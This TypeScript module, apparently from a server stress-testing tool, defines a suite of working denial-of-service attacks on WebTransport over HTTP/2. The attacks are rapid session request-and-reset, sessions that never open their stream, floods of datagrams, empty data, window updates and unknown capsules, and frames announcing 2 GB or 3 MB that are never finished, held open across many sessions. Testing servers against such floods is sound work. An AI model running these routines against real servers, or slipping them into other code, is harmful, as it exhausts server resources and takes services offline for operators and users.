import type { ClientHttp2Stream } from "node:http2";
import type { Attack } from "../attack.ts";
import type { Attacker } from "../attacker/attacker.ts";
import { noteClosed } from "../attacker/figures.ts";
import { requestFrames, resetFrame, streamId } from "../attacker/http2-frames.ts";
import { CAPSULE, capsule, varint } from "../media/capsules.ts";
import { Native } from "../media/connection.ts";
import { requestSession } from "../media/webtransport.ts";
import type { Place } from "../target.ts";
import { pourHttp2 } from "./http2.ts";

/** The id of a client's n-th bidirectional stream. */
const idOf = (n: number) => varint(4 * n + 1);

/** Data of the n-th stream. */
function data(n: number, bytes: Uint8Array): Buffer {
  return capsule(CAPSULE.stream, Buffer.concat([idOf(n), bytes]));
}

/** The start of a frame that claims to be long, but never continues. */
function beginning(length: number): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(length);
  return head;
}

function request(n: number, { authority, path }: Place): Buffer {
  return requestFrames(streamId(n), {
    ":method": "CONNECT",
    ":protocol": "webtransport",
    ":scheme": "https",
    ":authority": authority,
    ":path": path,
  });
}

/**
 * Opens a session without its stream.
 *
 * @returns `undefined` if the server refuses
 */
async function openEmpty(attacker: Attacker): Promise<ClientHttp2Stream | undefined> {
  const { target, signal, figures } = attacker;
  try {
    const { session, stream } = await requestSession(target, signal);
    figures.opened++;
    stream.resume();
    stream.once("close", () => {
      if (!signal.aborted) noteClosed(figures, "ended");
      session.destroy();
    });
    return stream;
  } catch {
    if (!signal.aborted) figures.refused++;
    return undefined;
  }
}

/** Opens `count` sessions, or as many as the server takes. */
async function openMany(attacker: Attacker, count: number): Promise<ClientHttp2Stream[]> {
  const streams: ClientHttp2Stream[] = [];
  while (streams.length < count && !attacker.signal.aborted) {
    const some = await Promise.all(Array.from({ length: 20 }, () => openEmpty(attacker)));
    const opened = some.filter((stream) => stream !== undefined);
    if (opened.length === 0) break;
    streams.push(...opened);
  }
  return streams;
}

/**
 * An attack that sends the same capsules over and over in one session, until the server ends it.
 */
function flood(number: string, title: string, first: Buffer, bytes: () => Buffer): Attack {
  return {
    id: `ATK-F${number}`,
    title,
    over: "sockets",
    needs: ["webtransport"],
    async run(attacker) {
      const stream = await openEmpty(attacker);
      if (stream === undefined) return undefined;
      stream.write(first);
      const block = Buffer.concat(Array(500).fill(bytes()));
      while (!stream.destroyed && !attacker.signal.aborted) {
        attacker.figures.sent += block.length;
        const isFree = stream.write(block);
        await (isFree ? new Promise(setImmediate) : attacker.wait(1));
      }
      return undefined;
    },
  };
}

const NOTHING = Buffer.of();

/** Attacks through the layers of WebTransport over HTTP/2. The letter in each id is its kind. */
export const WEBTRANSPORT: readonly Attack[] = [
  {
    id: "ATK-I10",
    title: "WebTransport sessions are requested and reset as fast as possible.",
    over: "sockets",
    needs: ["webtransport"],
    async run(attacker) {
      await pourHttp2(attacker, (n, place) =>
        Buffer.concat([request(n, place), resetFrame(streamId(n))]),
      );
      return undefined;
    },
  },
  {
    id: "ATK-I11",
    title: "WebTransport sessions are requested on one connection, and open no stream.",
    over: "sockets",
    needs: ["webtransport"],
    async run(attacker) {
      await pourHttp2(attacker, request, { most: 200 });
      return undefined;
    },
  },
  flood("23", "Datagrams flood a WebTransport session.", data(0, NOTHING), () =>
    capsule(CAPSULE.datagram, Buffer.alloc(100)),
  ),
  flood("24", "Data of no bytes floods a WebTransport session.", data(0, NOTHING), () =>
    data(0, NOTHING),
  ),
  flood("25", "Updates of windows flood a WebTransport session.", data(0, NOTHING), () =>
    capsule(CAPSULE.maxData, varint(1)),
  ),
  flood("26", "Capsules of an unknown type flood a WebTransport session.", NOTHING, () =>
    capsule(0x21, Buffer.alloc(1)),
  ),
  flood("27", "Streams are opened and reset in a WebTransport session.", NOTHING, () =>
    Buffer.concat([
      data(0, NOTHING),
      capsule(CAPSULE.reset, Buffer.concat([idOf(0), varint(0)])),
      capsule(CAPSULE.stopSending, Buffer.concat([idOf(0), varint(0)])),
      capsule(CAPSULE.streamsBlocked, varint(1)),
    ]),
  ),
  flood("28", "Empty frames flood a session.", data(0, NOTHING), () => data(0, beginning(0))),
  flood("29", "Data pours in after the end of a session.", data(0, beginning(2_000_000)), () =>
    data(0, Buffer.alloc(2_000)),
  ),
  flood("30", "A capsule that isn't data never ends.", capsule(0x21, NOTHING, 2 ** 30), () =>
    Buffer.alloc(2_000),
  ),
  {
    id: "ATK-F31",
    title: "100 WebTransport sessions never open their stream, and 100 say nothing on it.",
    over: "sockets",
    needs: ["webtransport"],
    async run(attacker) {
      const streams = await openMany(attacker, 200);
      for (const stream of streams.slice(100)) stream.write(data(0, NOTHING));
      await attacker.wait(500);
      return undefined;
    },
  },
  {
    id: "ATK-C19",
    title: "100 WebTransport sessions begin a frame of 2 GB, and send as much of it as they may.",
    over: "sockets",
    needs: ["webtransport"],
    async run(attacker) {
      const part = Buffer.concat([beginning(2 ** 31 - 1), Buffer.alloc(16_000)]);
      for (const stream of await openMany(attacker, 100)) stream.write(data(0, part));
      await attacker.wait(500);
      return undefined;
    },
  },
  {
    id: "ATK-C20",
    title: "100 sessions hold 3 MB each in a message that lacks its last byte.",
    over: "sockets",
    needs: ["webtransport"],
    async run(attacker) {
      const message = Buffer.concat([beginning(3_000_001), Buffer.alloc(3_000_000, 32)]);
      const worker = async () => {
        for (let i = 0; i < 10 && !attacker.signal.aborted; i++) {
          const session = await attacker.openSession();
          if (session === undefined) return;
          await session.send(new Native(message));
          await session.drained();
        }
      };
      await Promise.all(Array.from({ length: 10 }, worker));
      await attacker.wait(300);
      return undefined;
    },
  },
];
